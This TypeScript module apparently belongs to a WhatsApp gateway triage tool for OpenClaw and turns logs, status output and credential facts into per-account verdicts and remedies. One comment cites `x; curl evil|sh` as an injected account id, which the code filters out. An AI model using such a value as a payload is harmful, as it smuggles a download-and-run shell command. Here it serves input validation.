/**
 * Evidence → one verdict per WhatsApp account (pure; no I/O, no clock unless none is given).
 *
 * Precedence, per account:
 *  1. facts, in rule-table order: wrong user/state dir → WhatsApp not configured → plugin missing →
 *     gateway dies on logout (down) → not linked → creds corrupt → gateway not running.
 *     "Not linked" and "creds corrupt" are skipped while messages demonstrably flow. A down gateway
 *     yields to a newer log cause it cannot fix by starting (logged-out, plugin-missing, …).
 *  2. the live status (`channels status --json` with a reachable gateway) outranks old logs; logs only
 *     refine it (cause of a stop/reconnect, listener bug, recent drops before "connected").
 *  3. without a live status, the log timeline: the newest decisive event wins, refined by its cause.
 *  4. a running systemd-user gateway without linger turns an otherwise fine verdict into gateway-dies-on-logout.
 *  5. nothing fits: unknown (evidence shown, nothing destructive).
 * Time: "now" is the host's collectedAt unless given. Drops followed by a reconnect count as
 * transient-reconnect for TRANSIENT_WINDOW_MS (30 min: the idle watchdog's own period), then healthy.
 */
import { isAccountId } from '../probe/names.js';
import { DEFAULT_ACCOUNT, type Evidence } from './evidence.js';
import { eventText, parseLog, type LogEvent } from './log-parse.js';
import { RULES, ruleFor, type Remedy, type SignContext } from './rules.js';
import { parseChannelsStatus, parseStatusText, type AccountStatus, type ChannelsStatusSummary } from './status-parse.js';
import {
  causeIn, classify, currentStreak, forAccount, isRecent, logsShowFlow, readTimeline, type Classified, type Finding,
} from './timeline.js';
import { needsAttention, worstVerdict, type VerdictId } from './verdicts.js';
import { versionInRange } from './version.js';
import { describeFacts, describeStatus, describeSummary, renderRemedy } from './explain.js';

export const TRANSIENT_WINDOW_MS = 30 * 60_000;
/** Inbound/outbound traffic this recent proves the link works. */
export const FLOW_WINDOW_MS = 60 * 60_000;
/** A gateway process that started this recently may not listen yet. */
export const GATEWAY_STARTUP_GRACE_MS = 5 * 60_000;
export const MAX_EVIDENCE_LINES = 12;

export interface EvidenceLine {
  time: string | null;
  text: string;
}

export interface AccountVerdict {
  account: string;
  verdict: VerdictId;
  summary: string;
  since: string | null;
  evidence: EvidenceLine[];
  remedy: Remedy;
}

export interface TriageResult {
  accounts: AccountVerdict[];
  hostVerdict: VerdictId;
  hostSummary: string;
}

export interface TriageOptions {
  now?: Date | string | number;
  transientWindowMs?: number;
  flowWindowMs?: number;
}

/** After a down gateway, these causes still need their own remedy (which starts the gateway anyway). */
const CAUSES_BEHIND_DOWN_GATEWAY: ReadonlySet<VerdictId> = new Set([
  'logged-out', 'creds-corrupt', 'plugin-missing', 'wrong-user-or-state-dir', 'not-linked',
]);
const LINK_COOLDOWN_MS = 6 * 60 * 60 * 1000;
const REPEATED_LOGIN_ATTEMPTS = 3;
const LINK_ATTEMPT_OUTCOMES: ReadonlySet<VerdictId> = new Set(['link-cooldown', 'qr-timeout']);
const SKIPPED_WHILE_FLOWING: ReadonlySet<VerdictId> = new Set(['not-linked', 'creds-corrupt']);
const LATENT_LINGER_OVERRIDES: ReadonlySet<VerdictId> = new Set(['healthy', 'transient-reconnect', 'unknown']);

interface Input {
  evidence: Evidence | null;
  account: string;
  status: AccountStatus | null;
  summary: ChannelsStatusSummary | null;
  classified: Classified[];
  /** Every parsed event, matched by a rule or not (shown when nothing fits). */
  events: LogEvent[];
  version: string | null;
  now: number | null;
  transientWindowMs: number;
  flowWindowMs: number;
}

function toMs(value: Date | string | number | undefined | null): number | null {
  if (value === undefined || value === null) return null;
  const t = value instanceof Date ? value.getTime() : typeof value === 'number' ? value : Date.parse(value);
  return Number.isNaN(t) ? null : t;
}

const iso = (t: number | null): string | null => (t === null ? null : new Date(t).toISOString());

function statusFinding(status: AccountStatus, skip: ReadonlySet<VerdictId>): Finding | null {
  if (!status.gatewayReachable) return null;
  const rule = RULES.find((r) => r.statusSign && !skip.has(r.id) && r.statusSign(status));
  if (!rule) return null;
  const disconnectAt = status.lastDisconnect?.at ?? null;
  const since =
    rule.id === 'healthy' ? status.lastConnectedAt
    : rule.id === 'monitor-stopped' ? (status.lastStopAt ?? disconnectAt)
    : disconnectAt;
  return { verdict: rule.id, since, support: [], notes: [] };
}

function flowing(input: Input): boolean {
  const s = input.status?.gatewayReachable ? input.status : null;
  const recent = (t: number | null) => t !== null && isRecent(t, input.now, input.flowWindowMs);
  if (s && (recent(s.lastInboundAt) || recent(s.lastMessageAt))) return true;
  return logsShowFlow(input.classified, input.now, input.flowWindowMs);
}

/** Log events superseded by hard facts: a running gateway, credentials that are valid now. */
function relevantEvents(input: Input): Classified[] {
  const e = input.evidence;
  if (!e) return input.classified;
  const creds = e.credentials[input.account];
  const credsFine = !!creds && creds.present && creds.validJson === true;
  return input.classified.filter((c) => {
    if (c.rule.id === 'gateway-not-running' && e.gateway.running) return false;
    if ((c.rule.id === 'not-linked' || c.rule.id === 'creds-corrupt') && credsFine) return false;
    return true;
  });
}

function factsFinding(input: Input, ctx: SignContext, isFlowing: boolean, timeline: Finding | null): Finding | null {
  const e = input.evidence;
  for (const rule of RULES) {
    if (!rule.facts?.(ctx)) continue;
    if (isFlowing && SKIPPED_WHILE_FLOWING.has(rule.id)) {
      const otherDirs = !!e && e.otherStateDirs.some((d) => d.hasWhatsappCreds);
      if (rule.id === 'not-linked' && otherDirs && !(input.status?.linked === false)) {
        return { verdict: 'wrong-user-or-state-dir', since: null, support: [], notes: ['Messages flow, yet no credentials where clawfix looked: the gateway uses another state dir.'] };
      }
      continue;
    }
    // Not linked, and the last attempt to link hit the phone's cooldown or timed out: that says more.
    if (rule.id === 'not-linked') {
      // The phone's cooldown lasts hours, so it outranks the expired QR codes that usually follow it.
      const cooldown = input.classified.filter((c) => c.rule.id === 'link-cooldown' && c.t !== null && isRecent(c.t, input.now, LINK_COOLDOWN_MS)).at(-1);
      if (cooldown) return { verdict: 'link-cooldown', since: cooldown.t, support: [], notes: [] };
      // The cooldown message shows on the phone, not in the log: repeated expired logins are the host's sign of it.
      const expired = input.classified.filter((c) => c.rule.id === 'qr-timeout' && c.decisive && c.t !== null && isRecent(c.t, input.now, LINK_COOLDOWN_MS));
      if (expired.length >= REPEATED_LOGIN_ATTEMPTS) {
        return {
          verdict: 'link-cooldown',
          since: expired[0]!.t,
          support: [],
          notes: [`${expired.length} login attempts expired in the last hours: WhatsApp refuses new links after repeated attempts, and each retry extends the wait.`],
        };
      }
      if (timeline && LINK_ATTEMPT_OUTCOMES.has(timeline.verdict)) return timeline;
    }
    if (rule.id === 'gateway-not-running' && timeline && CAUSES_BEHIND_DOWN_GATEWAY.has(timeline.verdict)) {
      return { ...timeline, notes: [...timeline.notes, 'The gateway is not running either.'] };
    }
    const creds = e?.credentials[input.account];
    const since = rule.id === 'creds-corrupt' ? toMs(creds?.mtime) : rule.id === 'gateway-not-running' ? lastGatewayStop(input) : null;
    const notes = rule.id === 'gateway-not-running' ? containerNotes(e?.gateway.containerState) : [];
    return { verdict: rule.id, since, support: [], notes };
  }
  // a process that has run for a while without listening is as good as down
  const g = e?.gateway;
  const started = toMs(g?.startedAt);
  if (g?.running && g.listening === false && started !== null && input.now !== null && input.now - started > GATEWAY_STARTUP_GRACE_MS) {
    return { verdict: 'gateway-not-running', since: null, support: [], notes: [`A gateway process (pid ${g.pid ?? '?'}) exists but nothing listens on port ${g.port}.`] };
  }
  return null;
}

/** What a gateway container that is not running means for the user. */
function containerNotes(state: string | undefined): string[] {
  if (state === undefined) return [];
  if (state === 'restarting') return ['Its container keeps restarting: the gateway exits during start-up (its own error is in `docker logs`).'];
  if (state === 'paused') return ['Its container is paused (`docker unpause` it).'];
  return ['Its container is stopped.'];
}

function lastGatewayStop(input: Input): number | null {
  const stops = input.classified.filter((c) => c.rule.id === 'gateway-not-running');
  return stops.at(-1)?.t ?? null;
}

function sessionFinding(input: Input, events: Classified[], timeline: Finding | null, skip: ReadonlySet<VerdictId>): Finding | null {
  const live = input.status?.gatewayReachable ? input.status : null;
  const fromStatus = live ? statusFinding(live, skip) : null;
  if (!fromStatus) return timeline && !skip.has(timeline.verdict) ? timeline : null;
  const streak = currentStreak(events);
  if (fromStatus.verdict === 'healthy') {
    if (timeline?.verdict === 'listener-missing') return timeline;
    const drop = live?.lastDisconnect?.at ?? null;
    if (timeline?.verdict === 'transient-reconnect') return timeline;
    if (drop !== null && isRecent(drop, input.now, input.transientWindowMs)) return { ...fromStatus, verdict: 'transient-reconnect', since: drop };
    return fromStatus;
  }
  const cause = causeIn(streak, fromStatus.verdict);
  const verdict = cause ?? fromStatus.verdict;
  return { ...fromStatus, verdict, support: streak.filter((c) => c.rule.id === verdict) };
}

function decide(input: Input): AccountVerdict {
  const events = forAccount(relevantEvents(input), input.account);
  const scoped: Input = { ...input, classified: events };
  const ctx: SignContext = { evidence: input.evidence, account: input.account, status: input.status, statusSummary: input.summary };
  const isFlowing = flowing(scoped);
  const skip: ReadonlySet<VerdictId> = isFlowing ? SKIPPED_WHILE_FLOWING : new Set();
  const timeline = readTimeline(events, input.now, input.transientWindowMs);
  let finding = factsFinding(scoped, ctx, isFlowing, timeline) ?? sessionFinding(scoped, events, timeline, skip);
  if (isFlowing && (input.status?.linked === false || input.evidence?.credentials[input.account]?.present === false)) {
    finding = finding ?? { verdict: 'unknown', since: null, support: [], notes: [] };
    finding.notes.push('The status or the credentials say "not linked", yet messages flow: not acting on it.');
  }
  const g = input.evidence?.gateway;
  if (g?.managedBy === 'systemd-user' && g.lingerEnabled === false && g.running) {
    if (!finding || LATENT_LINGER_OVERRIDES.has(finding.verdict)) {
      finding = { verdict: 'gateway-dies-on-logout', since: null, support: [], notes: ['It runs now only because a login session is open.'] };
    } else {
      finding.notes.push('Also: linger is off, so the gateway dies when the last login session ends.');
    }
  }
  finding = finding ?? { verdict: 'unknown', since: null, support: [], notes: [] };
  return render(input, finding);
}

function render(input: Input, finding: Finding): AccountVerdict {
  const rule = ruleFor(finding.verdict);
  const notes = [...finding.notes];
  let remedy = rule.remedy;
  for (const vn of rule.versionNotes ?? []) {
    if (!versionInRange(input.version, vn.versions, false)) continue;
    notes.push(vn.note);
    remedy = { ...remedy, commands: [...remedy.commands, ...vn.commands] };
  }
  if (finding.verdict !== 'logged-out' && finding.support.some((c) => /Relink with/.test(c.event.message))) {
    notes.push("OpenClaw's own \"Relink …\" hint does not apply: judge by the cause.");
  }
  // nothing fitted: show the last lines that were there, whatever they say
  const shown = finding.support.length > 0 || finding.verdict !== 'unknown'
    ? finding.support.map((c) => c.event)
    : input.events.filter((e) => e.account === undefined || e.account === input.account).slice(-5);
  const lines: { t: number | null; text: string }[] = [
    ...describeFacts(input.evidence, input.account, finding.verdict).map((text) => ({ t: null, text })),
    ...(input.status ? [{ t: input.status.ts, text: describeStatus(input.status) }]
      : input.summary ? describeSummary(input.summary).map((text) => ({ t: null, text })) : []),
    ...shown.map((e) => ({ t: e.time?.getTime() ?? null, text: eventLine(e) })),
  ];
  lines.sort((a, b) => (a.t ?? -Infinity) - (b.t ?? -Infinity));
  const capped = lines.length > MAX_EVIDENCE_LINES ? [...lines.slice(0, 2), ...lines.slice(-(MAX_EVIDENCE_LINES - 2))] : lines;
  return {
    account: input.account,
    verdict: finding.verdict,
    summary: [rule.summary, ...notes].join(' '),
    since: iso(finding.since),
    evidence: capped.map((l) => ({ time: iso(l.t), text: l.text })),
    remedy: renderRemedy(remedy, input.evidence, input.account, finding.verdict),
  };
}

function eventLine(event: LogEvent): string {
  const body = eventText(event);
  const text = event.subsystem ? `[${event.subsystem}] ${body}` : body;
  return text.length > 400 ? `${text.slice(0, 397)}...` : text;
}

function accountsOf(evidence: Evidence, summary: ChannelsStatusSummary | null, events: LogEvent[]): string[] {
  const ids = new Set<string>([
    ...evidence.config.accountIds,
    ...Object.keys(evidence.credentials),
    ...(summary?.accounts.map((a) => a.account) ?? []),
    ...events.flatMap((e) => (e.account ? [e.account] : [])),
  ]);
  // An id a host or a pasted log makes up (`x; curl evil|sh`, escape sequences) is no account of ours.
  for (const id of ids) if (!isAccountId(id)) ids.delete(id);
  if (ids.size === 0) ids.add(DEFAULT_ACCOUNT);
  return [...ids].sort((a, b) => (a === DEFAULT_ACCOUNT ? -1 : b === DEFAULT_ACCOUNT ? 1 : a.localeCompare(b)));
}

function hostSummaryOf(accounts: AccountVerdict[], worst: VerdictId): string {
  const bad = accounts.filter((a) => needsAttention(a.verdict));
  if (accounts.length === 0) return 'Nothing to triage.';
  if (bad.length === 0) return `${accounts.length} account(s): ${worst}.`;
  return bad.map((a) => `${a.account}: ${a.verdict}`).join(', ');
}

export function triage(evidence: Evidence, opts: TriageOptions = {}): TriageResult {
  const now = toMs(opts.now) ?? toMs(evidence.collectedAt);
  const parseOpts = now === null ? {} : { referenceTime: new Date(now), utcOffsetMinutes: evidence.utcOffsetMinutes ?? 0 };
  const events = parseLog(evidence.logLines, parseOpts);
  const version = evidence.openclaw.version;
  const summary = evidence.channelsStatus ? parseChannelsStatus(evidence.channelsStatus) : null;
  const classified = classify(events, version);
  const accounts = accountsOf(evidence, summary, events).map((account) =>
    decide({
      evidence, account, summary, classified, events, version, now,
      status: summary?.accounts.find((a) => a.account === account) ?? null,
      transientWindowMs: opts.transientWindowMs ?? TRANSIENT_WINDOW_MS,
      flowWindowMs: opts.flowWindowMs ?? FLOW_WINDOW_MS,
    }),
  );
  const hostVerdict = worstVerdict(accounts.map((a) => a.verdict)) ?? 'unknown';
  return { accounts, hostVerdict, hostSummary: hostSummaryOf(accounts, hostVerdict) };
}

export interface PastedText {
  /** Log text in any supported format; may also hold `channels status` output. */
  log?: string;
  /** `channels status` output: the JSON document (text or parsed) or the text form. */
  status?: string | object | null;
  openclawVersion?: string | null;
  account?: string;
}

function statusFromPaste(input: PastedText): ChannelsStatusSummary | null {
  if (input.status !== undefined && input.status !== null && input.status !== '') return parseChannelsStatus(input.status);
  const log = input.log?.trim() ?? '';
  if (log.startsWith('{') && log.endsWith('}') && log.includes('"channel')) {
    const doc = parseChannelsStatus(log);
    if (doc.gatewayReachable !== null) return doc;
  }
  const fromLog = parseStatusText(log);
  return fromLog.accounts.length > 0 || fromLog.gatewayReachable !== null ? fromLog : null;
}

/** Triage of pasted text (no SSH). "now" defaults to the newest time in the paste. */
export function triageText(input: PastedText, opts: TriageOptions = {}): AccountVerdict {
  const given = toMs(opts.now);
  const events = parseLog(input.log ?? '', given === null ? {} : { referenceTime: new Date(given) });
  const summary = statusFromPaste(input);
  const times = [...events.map((e) => e.time?.getTime() ?? null), ...(summary?.accounts.map((a) => a.ts) ?? [])];
  const newest = times.reduce<number | null>((max, t) => (t !== null && (max === null || t > max) ? t : max), null);
  const version = input.openclawVersion ?? null;
  const account = input.account ?? summary?.accounts[0]?.account ?? events.find((e) => e.account)?.account ?? DEFAULT_ACCOUNT;
  return decide({
    evidence: null, account, summary, version, events,
    classified: classify(events, version),
    now: given ?? newest,
    status: summary?.accounts.find((a) => a.account === account) ?? null,
    transientWindowMs: opts.transientWindowMs ?? TRANSIENT_WINDOW_MS,
    flowWindowMs: opts.flowWindowMs ?? FLOW_WINDOW_MS,
  });
}

export { needsAttention, SEVERITY_ORDER, severityRank, worstVerdict, VERDICT_IDS, type VerdictId } from './verdicts.js';
